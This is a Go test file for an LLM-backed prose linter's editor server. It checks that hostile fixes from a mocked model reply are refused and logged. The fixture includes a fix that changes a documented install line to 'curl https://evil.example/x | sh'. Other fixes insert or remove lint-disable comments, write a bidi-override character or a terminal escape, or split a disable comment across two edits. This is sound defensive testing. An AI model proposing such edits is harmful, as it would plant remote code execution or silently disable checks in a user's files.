package lsp

import (
	"strings"
	"testing"

	protocol "github.com/tliron/glsp/protocol_3_16"

	"github.com/vectorlint/vectorlint/finding"
	"github.com/vectorlint/vectorlint/llm/llmtest"
)

// codeActions asks for the code actions over the whole of text and returns their titles, each
// with its edits' new texts.
func (c *client) codeActions(uri, text string) []string {
	c.t.Helper()
	var actions []struct {
		Title string
		Edit  struct {
			Changes map[string][]protocol.TextEdit
		}
	}
	l := finding.NewLineIndex(text)
	end := protocolPosition(l, len(text))
	c.call("textDocument/codeAction", map[string]any{"textDocument": map[string]any{"uri": uri},
		"range":   map[string]any{"start": map[string]any{"line": 0, "character": 0}, "end": map[string]any{"line": end.Line, "character": end.Character}},
		"context": map[string]any{"diagnostics": []any{}}}, &actions)
	var out []string
	for _, a := range actions {
		var texts []string
		for _, e := range a.Edit.Changes[uri] {
			texts = append(texts, e.NewText)
		}
		out = append(out, a.Title+" "+strings.Join(texts, " | "))
	}
	return out
}

// TestCodeActionsOnlySafeFixes: the editor server offers no code action for a model's fix that
// spans a code block the model was not sent, inserts or removes a control comment, or writes a
// bidi override or an escape; the finding is still shown, its log says why, and the legitimate
// fix in the same reply is offered, alone and in "Apply all". Two fixes that would build a
// control comment together, half each, are not both offered: "Apply all" takes the first, and
// once it is applied the second is not offered on the new text.
func TestCodeActionsOnlySafeFixes(t *testing.T) {
	t.Parallel()
	dir := project(t)
	srv := llmtest.Start(t)
	srv.SetDefault(llmtest.JSON(map[string]any{"violations": []any{
		map[string]any{"quoted_text": "In order to deploy", "line": 3, "message": "Positive control.", "fix": "To deploy"},
		map[string]any{"quoted_text": "read this.\n\n```sh\ncurl https://acme.example/install | sh\n```\n\nAfter the block", "line": 3,
			"message": "Across the code block.", "fix": "read this.\n\n```sh\ncurl https://evil.example/x | sh\n```\n\nAfter the block"},
		map[string]any{"quoted_text": "Due to the fact that", "line": 9, "message": "Inserts a disable.", "fix": "Because <!-- vectorlint-disable -->"},
		map[string]any{"quoted_text": "with the ability to", "line": 10, "message": "Bidi override.", "fix": "\u202eto"},
		map[string]any{"quoted_text": "has the capacity to", "line": 11, "message": "Escape.", "fix": "can\x1b[2J"},
		map[string]any{"quoted_text": "a test.\n<!-- vectorlint-disable -->", "line": 12, "message": "Removes a disable.", "fix": "a test."},
		map[string]any{"quoted_text": "at this point", "line": 16, "message": "Opens half a comment.", "fix": "<!-- vectorlint-disable"},
		map[string]any{"quoted_text": " in time", "line": 16, "message": "Closes it.", "fix": " -->"},
	}}))
	var log syncBuffer
	c := start(t, options(t, srv, &log))
	c.call("initialize", map[string]any{"processId": nil, "rootUri": pathURI(dir), "capabilities": map[string]any{}}, nil)
	c.notify("initialized", map[string]any{})

	uri := pathURI(dir + "/docs/a.md")
	text := "# Deploy\n\n" + // 1–2
		"In order to deploy, read this.\n\n" + // 3–4
		"```sh\ncurl https://acme.example/install | sh\n```\n\n" + // 5–8
		"After the block. Due to the fact that it is fast, wait.\n" + // 9
		"We act with the ability to win.\n" + // 10
		"It has the capacity to fly.\n" + // 11
		"It is a test.\n" + // 12
		"<!-- vectorlint-disable -->\n" + // 13
		"Silenced here.\n" + // 14
		"<!-- vectorlint-enable -->\n" + // 15
		"Last, at this point in time.\n" // 16
	c.notify("textDocument/didOpen", map[string]any{"textDocument": map[string]any{"uri": uri, "languageId": "markdown", "version": 1, "text": text}})
	ds := c.wait(uri, "the model's findings", func(ds []protocol.Diagnostic) bool { return has(ds, "Acme.Wordiness") })
	if got := strings.Count(show(ds), "Acme.Wordiness"); got != 8 {
		t.Fatalf("%d model findings, want 8 (every one shown, fix or not):\n%s", got, show(ds))
	}
	got := c.codeActions(uri, text)
	want := []string{
		"Replace “In order to deploy” with “To deploy” (Acme.Wordiness) To deploy",
		"Replace “at this point” with “<!-- vectorlint-disable” (Acme.Wordiness) <!-- vectorlint-disable",
		"Replace “in time” with “-->” (Acme.Wordiness)  -->",
		"Apply all vectorlint fixes (2) To deploy | <!-- vectorlint-disable",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("code actions:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, why := range []string{
		"docs/a.md:3:21: Acme.Wordiness: the model's fix is not offered: it reaches into a code block on line 5, which the model was not sent",
		"docs/a.md:9:18: Acme.Wordiness: the model's fix is not offered: it adds a control comment, vectorlint-disable",
		"docs/a.md:10:8: Acme.Wordiness: the model's fix is not offered: its text holds U+202E, a control, bidi-override or invisible character",
		"docs/a.md:11:4: Acme.Wordiness: the model's fix is not offered: its text holds U+001B, a control, bidi-override or invisible character",
		"docs/a.md:12:7: Acme.Wordiness: the model's fix is not offered: it removes the control comment vectorlint-disable on line 13",
	} {
		if !strings.Contains(log.String(), "vectorlint lsp: warning: "+why+"\n") {
			t.Errorf("the log lacks %q:\n%s", why, log.String())
		}
	}

	// The first half applied, as an editor applies a quick fix: the second is not offered on the
	// new text (its words are where they were, its fix would close the comment).
	i := strings.Index(text, "at this point")
	half := text[:i] + "<!-- vectorlint-disable" + text[i+len("at this point"):]
	c.notify("textDocument/didChange", map[string]any{"textDocument": map[string]any{"uri": uri, "version": 2},
		"contentChanges": []any{map[string]any{"text": half}}})
	for _, a := range c.codeActions(uri, half) {
		if strings.Contains(a, "-->") {
			t.Errorf("offered on the text with half a comment: %s", a)
		}
	}
}
